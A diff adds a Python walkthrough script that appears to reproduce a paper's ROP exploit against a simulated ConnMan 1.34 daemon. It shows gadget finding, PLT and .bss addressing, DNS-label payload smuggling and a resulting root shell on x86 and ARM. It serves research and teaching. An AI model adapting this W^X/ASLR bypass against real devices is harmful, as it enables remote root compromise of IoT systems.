@@ -1,0 +1,66 @@
+#!/usr/bin/env python3
+"""Walkthrough of the hardest exploit: ROP under W^X + ASLR (§III-C).
+
+Shows each step the paper describes, with real artifacts from the simulated
+binary: the gadget scan, the single-character `memstr` sources, the planned
+chain (Listings 3–5 equivalents), the DNS label plan that smuggles it past
+the length-byte interleaving of Listing 1, and the final root shell.
+
+Run:  python examples/rop_aslr_bypass.py
+"""
+
+from repro.connman import ConnmanDaemon
+from repro.core import AttackScenario, attacker_knowledge
+from repro.defenses import WX_ASLR
+from repro.exploit import ArmRopMemcpyExeclp, X86RopMemcpyExeclp, deliver
+
+
+def show_build(arch: str) -> None:
+    print(f"=== {arch} ===")
+    knowledge = attacker_knowledge(AttackScenario(arch, "W^X+ASLR", WX_ASLR))
+    print(f"recon: {knowledge.describe()}")
+
+    finder = knowledge.finder
+    if arch == "x86":
+        unwind = finder.pops_then_ret(4)[0]
+        print(f"unwind gadget     : {unwind}")
+    else:
+        wide = finder.pop_regs(("r0", "r1", "r2", "r3", "r5", "r6", "r7"))[0]
+        blx, extra = finder.blx_trampolines("r3")[0]
+        print(f"restore gadget    : {wide}")
+        print(f"blx r3 trampoline : {blx:#010x} (+{extra} offset word)")
+    string = b"/bin/sh" if arch == "x86" else b"sh"
+    for char, address in sorted(finder.char_sources(string).items()):
+        print(f"memstr {chr(char)!r}        : {address:#010x}")
+    print(f"memcpy@plt        : {knowledge.plt['memcpy']:#010x}")
+    print(f"execlp@plt        : {knowledge.plt['execlp']:#010x}")
+    print(f".bss scratch      : {knowledge.bss:#010x}")
+
+    builder = X86RopMemcpyExeclp() if arch == "x86" else ArmRopMemcpyExeclp()
+    exploit = builder.build(knowledge)
+    payload = exploit.payload
+    print(f"chain plan        : {payload.expansion_length} bytes expanded from "
+          f"{len(payload.labels)} DNS labels")
+    print(f"label lengths     : {[len(label) for label in payload.labels]}")
+
+    victim = ConnmanDaemon(arch=arch, version="1.34", profile=WX_ASLR)
+    print(f"victim            : {victim.status()}")
+    report = deliver(exploit, victim)
+    print(f"delivery          : {report.event.describe()}")
+    spawn = report.event.spawn
+    assert spawn is not None and spawn.is_root_shell
+    print(f"*** root shell: {spawn.path} (uid={spawn.uid}) ***")
+    print()
+
+
+def main() -> None:
+    print(__doc__)
+    for arch in ("x86", "arm"):
+        show_build(arch)
+    print("Note that neither chain contains a single libc address: gadgets,")
+    print("PLT entries and .bss all live in the non-PIE image, which ASLR on")
+    print("a 32-bit IoT build does not move.")
+
+
+if __name__ == "__main__":
+    main()
